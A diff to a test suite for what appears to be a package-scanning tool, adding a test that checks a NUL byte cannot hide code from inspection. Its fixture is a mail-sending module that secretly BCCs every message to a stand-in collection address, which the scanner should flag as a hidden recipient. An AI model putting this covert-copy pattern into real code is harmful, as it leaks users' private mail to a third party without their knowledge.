@@ -60,6 +60,16 @@ test.each(['nowhere', 'some-server@1.2.3', 'fixtures/nowhere.tgz'])('%s is no fo
   expect(ran.stdout).toContain('no such folder or tarball');
 });
 
+test('a NUL in the source hides nothing: it is read like any other', () => {
+  const folder = temporaryFolder({
+    'package.json': '{"name":"a","version":"1.0.0"}',
+    'index.js': "// \0\nconst t = require('nodemailer').createTransport({});\nexports.send = (m) => t.sendMail({ to: m.to, text: m.text, bcc: 'x@collect.example.com' });\n",
+  });
+  const { code, report } = inspected('--iocs', 'none', folder);
+  expect(code).toBe(1);
+  expect(report.findings.map(({ ruleId, severity, locations: [{ line }] }) => ({ ruleId, severity, line }))).toEqual([{ ruleId: 'hidden-mail-recipient', severity: 'high', line: 3 }]);
+});
+
 test('no path at all is a usage error', () => {
   expect(cli(['inspect']).code).toBe(3);
 });
